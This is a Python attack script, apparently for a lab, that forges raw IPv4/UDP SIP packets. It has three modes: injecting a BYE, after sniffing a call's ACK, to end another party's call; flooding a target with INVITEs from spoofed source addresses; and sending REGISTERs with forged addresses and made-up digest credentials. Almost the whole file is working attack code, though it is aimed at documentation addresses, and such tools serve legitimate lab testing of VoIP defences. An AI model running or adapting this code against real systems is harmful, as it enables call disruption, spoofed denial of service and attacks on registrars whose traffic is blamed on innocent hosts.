#!/usr/bin/env python3
"""Packets that no tool of the lab makes: a BYE into a call that somebody else has, and requests from addresses that others have, or nobody.

    forge.py bye INTERFACE CALLEE SENDER     hears at INTERFACE how a call to CALLEE is set up, waits two seconds, ends it as SENDER
    forge.py flood TARGET RATE SECONDS [AS]  INVITEs to TARGET from many forged addresses, or from the address AS alone
    forge.py guess TARGET USER COUNT AS      REGISTERs of USER to TARGET from the address AS, each with a password that is guessed for a
                                             challenge that is made up: the real one went to AS

CALLEE and SENDER are address:port.

Runs in a host of the lab; everything is on documentation addresses.
"""
import re
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source, destination, payload, ident):
    """IPv4 and UDP; source and destination are (address, port)."""
    from_ip, to_ip = socket.inet_aton(source[0]), socket.inet_aton(destination[0])
    udp = struct.pack(">HHHH", source[1], destination[1], 8 + len(payload), 0)
    total = checksum(from_ip + to_ip + struct.pack(">BBH", 0, 17, len(udp) + len(payload)) + udp + payload) or 0xFFFF
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), ident & 0xFFFF, 0, 64, 17, 0, from_ip, to_ip)
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + udp[:6] + struct.pack(">H", total) + payload


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def heard(interface):
    """((source, port), (destination, port), payload) of every UDP datagram that passes."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((interface, 0))
    tap.settimeout(60)
    print("hearing", flush=True)
    while True:
        frame = tap.recv(9000)
        if frame[12:14] != b"\x08\x00" or frame[23] != 17:
            continue
        at = 14 + (frame[14] & 15) * 4
        ports = struct.unpack_from(">HH", frame, at)
        yield (socket.inet_ntoa(frame[26:30]), ports[0]), (socket.inet_ntoa(frame[30:34]), ports[1]), frame[at + 8:]


def header(message, name):
    return re.search(rb"^" + name + rb":[ \t]*(.*?)\r?$", message, re.M | re.I)[1].decode()


def endpoint(text):
    address, _, port = text.partition(":")
    return address, int(port)


def end_a_call(interface, victim, here):
    """What a man in the middle can do: the ACK that the callee gets has all that a BYE needs."""
    for _, destination, message in heard(interface):
        if destination == victim and message.startswith(b"ACK "):
            break
    time.sleep(2)
    bye = (f"BYE {message.split()[1].decode()} SIP/2.0\r\n"
           f"Via: SIP/2.0/UDP {here[0]}:{here[1]};branch=z9hG4bK{time.time_ns():x}\r\n"
           f"From: {header(message, b'From')}\r\nTo: {header(message, b'To')}\r\nCall-ID: {header(message, b'Call-ID')}\r\n"
           f"CSeq: {int(header(message, b'CSeq').split()[0]) + 1} BYE\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n").encode()
    with raw() as sender:
        sender.sendto(datagram(here, victim, bye, 1), victim)
    print("BYE sent for", header(message, b"Call-ID"))


def flood(target, rate, seconds, victim=None):
    sources = [victim] if victim else [f"198.51.100.{n}" for n in range(100, 250)] + [f"203.0.113.{n}" for n in range(100, 250)]
    begun = time.monotonic()
    with raw() as sender:
        for n in range(int(rate * seconds)):
            source = (sources[n * 7 % len(sources)], 1024 + n * 13 % 60000)
            invite = (f"INVITE sip:1011@{target} SIP/2.0\r\nVia: SIP/2.0/UDP {source[0]}:{source[1]};branch=z9hG4bKf{n}\r\n"
                      f"From: <sip:{5000 + n}@{source[0]}>;tag=f{n}\r\nTo: <sip:1011@{target}>\r\nCall-ID: flood-{n}@{source[0]}\r\n"
                      f"CSeq: 1 INVITE\r\nContact: <sip:{5000 + n}@{source[0]}:{source[1]}>\r\nMax-Forwards: 70\r\n"
                      "Content-Length: 0\r\n\r\n").encode()
            sender.sendto(datagram(source, (target, 5060), invite, n), (target, 5060))
            rest = (n + 1) / rate - (time.monotonic() - begun)
            if rest > 0:
                time.sleep(rest)
    print("INVITEs sent:", int(rate * seconds))


def guess(target, user, count, victim):
    with raw() as sender:
        for n in range(count):
            register = (f"REGISTER sip:{target} SIP/2.0\r\nVia: SIP/2.0/UDP {victim}:5060;branch=z9hG4bKg{n}\r\n"
                        f"From: <sip:{user}@{target}>;tag=g{n}\r\nTo: <sip:{user}@{target}>\r\nCall-ID: guess-{n}@{victim}\r\n"
                        f"CSeq: {n + 1} REGISTER\r\nContact: <sip:{user}@{victim}:5060>\r\nMax-Forwards: 70\r\n"
                        f'Authorization: Digest username="{user}", realm="lab.example", nonce="{n:032x}", uri="sip:{target}", '
                        f'response="{n * 7919:032x}", algorithm=MD5\r\nContent-Length: 0\r\n\r\n').encode()
            sender.sendto(datagram((victim, 5060), (target, 5060), register, n), (target, 5060))
            time.sleep(0.03)
    print("REGISTERs sent:", count)


def main():
    what, *words = sys.argv[1:]
    if what == "bye":
        end_a_call(words[0], endpoint(words[1]), endpoint(words[2]))
    elif what == "guess":
        guess(words[0], words[1], int(words[2]), words[3])
    else:
        flood(words[0], float(words[1]), float(words[2]), *words[3:])


main()
